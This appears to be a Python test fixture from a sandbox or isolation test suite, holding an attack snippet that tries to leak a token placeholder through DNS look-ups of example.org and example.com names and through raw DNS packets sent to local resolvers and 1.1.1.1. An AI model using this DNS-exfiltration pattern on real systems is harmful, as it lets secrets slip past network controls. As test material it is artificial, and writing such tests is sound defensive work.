"""Everything is right; sends what it knows out by name look-ups."""

from tests.hostile.attack import attaque

AFTER = {
    "preparation": attaque(
        r"""
socket.setdefaulttimeout(0.5)
essai("gethostbyname", socket.gethostbyname, "@JETON@.example.org")
essai("getaddrinfo", socket.getaddrinfo, "@JETON@.example.com", 80)
def direct(ou):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(bytes.fromhex("abcd01000001000000000000076578616d706c65036f72670000010001"), (ou, 53))
        return s.recv(512)
for ou in ("127.0.0.53", "1.1.1.1", "127.0.0.1"): essai(ou, direct, ou)
"""
    )
}
REACHED = True
